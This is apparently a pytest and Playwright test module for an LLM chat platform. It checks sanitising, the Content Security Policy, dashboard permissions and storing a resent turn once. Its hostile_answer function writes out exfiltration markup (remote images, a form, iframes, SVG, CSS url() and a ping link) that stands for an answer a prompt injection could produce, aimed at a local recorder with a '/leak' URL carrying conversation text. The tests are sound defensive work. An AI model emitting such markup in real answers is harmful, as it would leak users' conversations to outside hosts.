"""The pages in a real browser (Debian's chromium, headless, driven by
Playwright) against the live platform, on what they refuse: a chat answer
loads nothing from elsewhere and holds no form (sanitised, and the Content
Security Policy behind it); the pages, the admin included, work under that
policy; the dashboard shows only the orders its user may give; a turn sent
again after the socket dropped is stored once.

Answers with hostile markup are stored answers, rendered by the chat page's
own rendering (the one that renders streamed tokens): a small model cannot be
made to emit them on demand."""

import http.server
import re
import threading

import pytest
from django.contrib.auth.models import Permission
from playwright.sync_api import expect

from api.models import Usage
from chat.models import Conversation, Message
from tests.platform import live_platform
from tests.platform.chat import browser as chromium
from tests.platform.chat.browser import answer, restart_front, sampling
from tests.platform.live_platform import CHAT, ENGINE
from tests.waiting import wait_for

# The live platform and the logged-in page of the browser tests, started
# once for this module too.
database = live_platform.database
models_dir_path = live_platform.models_dir_path
live = live_platform.live
orm = live_platform.orm
browser = chromium.browser
page = chromium.page

# A 1x1 transparent GIF, as a data: URL (the one kind of image kept).
PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
# Record every CSP violation a page reports, from its first script on.
VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__violations.push(`${event.violatedDirective} ${event.blockedURI}`);
});
"""


class Recorder(http.server.BaseHTTPRequestHandler):
    """Answers every GET with 200 and remembers its path."""

    def do_GET(self) -> None:
        self.server.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def elsewhere():
    """A small HTTP server on loopback, another origin than the front's:
    the paths it was asked for in `.seen`."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    server.seen = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    server.url = f"http://127.0.0.1:{server.server_address[1]}"
    yield server
    server.shutdown()
    server.server_close()


def hostile_answer(url: str) -> str:
    """An answer a prompt injection could make: every way of loading from
    `url` with the conversation in the URL, a form posting there, a kept
    data: image and a link, then a last line to know rendering is done."""
    leak = f"{url}/leak?x=the+secret+conversation"
    return "\n\n".join(
        [
            "Here you are:",
            f'<img src="{leak}&via=img"> <img srcset="{leak}&via=srcset 1x">',
            f"![chart]({leak}&via=markdown)",
            f'<form action="{leak}&via=form" method="get"><input name="q" '
            f'value="secret"><button type="submit">Go</button></form>',
            f'<iframe src="{leak}&via=iframe"></iframe>',
            f'<object data="{leak}&via=object"></object><embed src="{leak}&via=embed">',
            f'<video poster="{leak}&via=poster" src="{leak}&via=video"></video>'
            f'<audio src="{leak}&via=audio"></audio>',
            f'<svg><image href="{leak}&via=svg"></image></svg>',
            f"<style>p {{ background: url('{leak}&via=style') }}</style>",
            f"<p style=\"background-image: url('{leak}&via=attr')\">styled</p>",
            f'<table background="{leak}&via=background"><tr><td>cell</td></tr></table>',
            f'<a href="{url}/clicked" ping="{leak}&via=ping">a link</a>',
            f'<img alt="inline" src="{PIXEL}">',
            "END OF ANSWER",
        ]
    )


def test_an_answer_loads_nothing_from_elsewhere(page, live, elsewhere):
    """An answer with remote images (HTML and Markdown), a form, frames,
    objects, media, SVG, styles and a pinging link is rendered; no request
    reaches the other server, the DOM holds none of those elements and no
    remote src, the data: image and the link stay (the link opens in a new
    tab, without a referrer). The control: the same browser does reach that
    server when it is asked to."""
    reached = []
    page.on(
        "request", lambda r: r.url.startswith(elsewhere.url) and reached.append(r.url)
    )
    conversation = Conversation.objects.create(user=page.user, model=CHAT, title="x")
    Message.objects.create(conversation=conversation, role="user", content="show me")
    Message.objects.create(
        conversation=conversation,
        role="assistant",
        content=hostile_answer(elsewhere.url),
    )
    page.goto(f"{live.base_url}/chat/{conversation.pk}/")
    body = page.locator(".message.assistant .body")
    expect(body).to_contain_text("END OF ANSWER")
    # The control: another page of the same browser reaches the server.
    other = page.context.new_page()
    other.goto(f"{elsewhere.url}/control")
    wait_for(lambda: "/control" in elsewhere.seen, timeout=30, what="the control")
    other.close()
    # Besides the control (and the favicon the browser asks for with it),
    # nothing: every URL in the answer is /leak... or /clicked.
    asked = [p for p in elsewhere.seen if p not in ("/control", "/favicon.ico")]
    assert asked == [] and reached == []

    for tag in (
        "form",
        "input",
        "button",
        "iframe",
        "object",
        "embed",
        "video",
        "audio",
        "svg",
        "style",
        "[style]",
        "[srcset]",
        "[background]",
        "[ping]",
    ):
        assert body.locator(tag).count() == 0, tag
    sources = body.locator("img").evaluate_all("images => images.map(i => i.src)")
    assert [src for src in sources if src] == [PIXEL]
    link = body.locator("a")
    assert link.get_attribute("href") == f"{elsewhere.url}/clicked"
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("target") == "_blank"


def test_the_policy_stops_what_slips_past_the_sanitiser(page, live, elsewhere):
    """Markup put in the page without the sanitiser (as if it had slipped
    past it): the remote image and the inline script are refused by the
    page's Content Security Policy, which the page reports; the server is
    never asked and the script never runs."""
    page.goto(f"{live.base_url}/chat/")
    expect(page.locator("#connection")).to_have_text("connected")
    blocked = page.evaluate(
        """(url) => new Promise((resolve) => {
            const seen = [];
            document.addEventListener("securitypolicyviolation", (event) => {
              seen.push(event.violatedDirective);
              if (seen.length === 2) resolve(seen.sort());
            });
            // The deadline: what was refused by then (nothing, without a policy).
            setTimeout(() => resolve(seen.sort()), 15000);
            const bubble = document.createElement("div");
            bubble.innerHTML = `<img src="${url}/slipped">`;
            document.body.append(bubble);
            const script = document.createElement("script");
            script.textContent = "window.ran = true";
            document.body.append(script);
        })""",
        elsewhere.url,
    )
    assert blocked == ["img-src", "script-src-elem"]
    assert page.evaluate("window.ran") is None
    assert elsewhere.seen == []


@pytest.mark.parametrize(
    "path, works",
    [
        ("/chat/", "#connection"),
        ("/dashboard/", "#connection"),
        ("/admin/", "#content"),
        ("/admin/catalog/modelconfig/", "#changelist"),
        ("/admin/catalog/modelconfig/add/", "#modelconfig_form"),
    ],
)
def test_pages_send_the_policy_and_work_under_it(page, live, path, works):
    """The chat page, the dashboard and the admin's pages carry the Content
    Security Policy, and run under it with no violation reported: the chat
    page and the dashboard connect their WebSockets, the admin's scripts
    run (the list's select-all ticks every row)."""
    page.user.is_superuser = True
    page.user.save()
    page.add_init_script(VIOLATIONS)
    response = page.goto(f"{live.base_url}{path}")
    policy = response.headers["content-security-policy"]
    assert "default-src 'self'" in policy and "img-src 'self' data:" in policy
    assert f"ws://127.0.0.1:{live.port}" in policy
    expect(page.locator(works)).to_be_visible()
    if path in ("/chat/", "/dashboard/"):
        expect(page.locator("#connection")).to_have_text(
            re.compile(r"^(connected|live)$")
        )
    if path == "/admin/catalog/modelconfig/":
        page.click("#action-toggle")
        expect(page.locator(".action-counter")).to_contain_text("selected")
        assert page.locator("input.action-select:checked").count() >= 1
    assert page.evaluate("window.__violations") == []


def test_the_dashboard_shows_only_the_orders_its_user_may_give(page, live):
    """A staff member who may only view sees the engine's card with no
    restart, load or unload button; given the change permissions (the
    control), they appear."""
    # A first answer makes the chat model resident (an unload button's row).
    live.client().chat.completions.create(
        model=CHAT, messages=[{"role": "user", "content": "Hi"}], max_tokens=1
    )
    page.goto(f"{live.base_url}/dashboard/")
    card = page.locator(f'.card[data-engine="{ENGINE}"]')
    expect(card.locator(".badge")).to_have_text("ready")
    expect(card).to_contain_text(CHAT)
    for button in ("restart", "load", "unload"):
        assert card.locator(f"button.{button}").count() == 0, button
    page.user.user_permissions.add(
        *Permission.objects.filter(
            codename__in=["change_enginespec", "change_modelconfig"]
        )
    )
    page.reload()
    card = page.locator(f'.card[data-engine="{ENGINE}"]')
    expect(card.locator("button.restart")).to_be_visible()
    expect(card.locator("button.load")).to_be_visible()
    expect(card.locator("button.unload").first).to_be_visible()


def test_a_turn_interrupted_by_a_dropped_socket_is_stored_once(page, live):
    """The front restarts mid-answer: the old front stores the interrupted
    turn as its socket closes, the page reconnects and sends the turn again
    with its turn id; the conversation then holds the question once and the
    finished answer once, on the page and after a reload. (Without turn ids
    the page's resend was stored as a second conversation.)"""
    expect(page.locator("#connection")).to_have_text("connected")
    sampling(page, max_tokens=400, temperature=0)
    page.fill("#prompt", "Write a very long essay about harbours.")
    page.press("#prompt", "Enter")
    first = answer(page, 0)
    expect(first.locator(".body")).not_to_be_empty()
    sampling(page, max_tokens=8)  # the resend is short
    old = next(p for p in live.processes if p.pid == live.front_pid)
    front = restart_front(live)
    try:
        # The old front has closed the socket and exited: the interrupted
        # stream ended there (its usage row says the client went away), and
        # its turn was stored as it ended.
        old.wait(timeout=30)
        assert Usage.objects.filter(
            user=page.user, endpoint="ws.chat", status=499
        ).exists()
        expect(page).to_have_url(re.compile(r"/chat/\d+/$"))

        def stored_again():
            found = list(
                Message.objects.filter(conversation__user=page.user).values_list(
                    "role", "finish_reason"
                )
            )
            return found if found and found[-1][1] in ("stop", "length") else None

        turns = wait_for(stored_again, timeout=60, what="the resent turn stored")
        assert turns == [("user", ""), ("assistant", "length")]
        assert Conversation.objects.filter(user=page.user).count() == 1
        assert page.locator(".message").count() == 2
        page.reload()
        expect(page.locator(".message")).to_have_count(2)
    finally:
        live.front_pid = front.pid
